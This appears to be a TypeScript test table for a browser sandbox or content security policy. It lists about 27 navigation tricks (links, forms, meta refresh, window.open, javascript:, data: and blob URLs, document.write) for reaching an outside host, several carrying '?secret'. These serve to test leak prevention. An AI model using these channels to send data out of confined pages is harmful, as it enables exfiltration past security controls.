import { element, ways } from "../way.ts";

export const navigation = ways({
  "its own location": { code: `location.href = there + "/?secret"; await sleep(400);`, knocks: true },
  "location.replace": { code: `location.replace(there + "/?secret"); await sleep(400);`, knocks: true },
  "the navigation API": { code: `navigation.navigate(there + "/?secret"); await sleep(400);`, knocks: true },
  "a click on a link": {
    code: `${element("a", `{ href: there + "/?secret" }`)}e.click(); await sleep(400);`,
    knocks: true,
  },
  "a link whose click handler stops the event": {
    code: `${element("a", "{ href: there }")} e.addEventListener("click", (event) => event.stopImmediatePropagation(), true); e.click(); await sleep(400);`,
    knocks: true,
  },
  "a download link": {
    code: `${element("a", `{ href: there, download: "x" }`)}e.click(); await sleep(400);`,
  },
  "a link with a ping": `${element("a", `{ href: "#x", ping: there }`)} e.click(); await sleep(400);`,
  "an SVG link": {
    code: `document.body.insertAdjacentHTML("beforeend", '<svg><a id="l" href="' + there + '"><text y="9">x</text></a></svg>');
      document.querySelector("#l").dispatchEvent(new MouseEvent("click", { bubbles: true })); await sleep(400);`,
    knocks: true,
  },
  "a meta refresh": {
    code: `const m = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + there }); document.head.append(m); await sleep(600);`,
    knocks: true,
  },
  "a form": `${element("form", `{ action: there, method: "post" }`)} e.submit(); await sleep(400);`,
  "a form submitted by requestSubmit": `${element("form", `{ action: there }`)} e.requestSubmit(); await sleep(400);`,
  "a form button with a formaction": `const f = document.createElement("form");
    const b = document.createElement("button"); b.setAttribute("formaction", there); f.append(b); document.body.append(f); b.click(); await sleep(400);`,
  "a form with a new window as target": `${element("form", `{ action: there, target: "_blank" }`)} e.submit(); await sleep(400);`,
  "a form with the page as target": `${element("form", `{ action: there, target: "_top" }`)} e.submit(); await sleep(400);`,
  "a new window": `open(there + "/?secret"); await sleep(400);`,
  "a window without an opener": `open(there, "_blank", "noopener"); await sleep(400);`,
  "its own window by the name _self": { code: `open(there, "_self"); await sleep(400);`, knocks: true },
  "the page's location": `top.location.href = there; await sleep(400);`,
  "the parent's location": `top.location.replace(there); await sleep(400);`,
  "a link with the page as target": `${element("a", `{ href: there, target: "_top" }`)} e.click(); await sleep(400);`,
  "a link with a new window as target": `${element("a", `{ href: there, target: "_blank" }`)} e.click(); await sleep(400);`,
  "the location of another frame": `for (let i = 0; i < top.frames.length; i++) try { top.frames[i].location = there; } catch {} await sleep(400);`,
  "a javascript: URL": {
    code: `location.href = "javascript:fetch('" + there + "',{mode:'no-cors'})"; await sleep(400);`,
  },
  "a data: URL with a document": {
    code: `location.href = "data:text/html,<img src='" + there + "'>"; await sleep(400);`,
  },
  "a blob URL with a document": {
    code: `location.href = URL.createObjectURL(new Blob(["<img src='" + there + "'>"], { type: "text/html" })); await sleep(400);`,
  },
  "a document made by document.write": `document.open(); document.write("<img src='" + there + "'>"); document.close(); await sleep(300);`,
  "a script made by document.write": `document.write("<script src='" + there + "'></" + "script>"); await sleep(300);`,
});
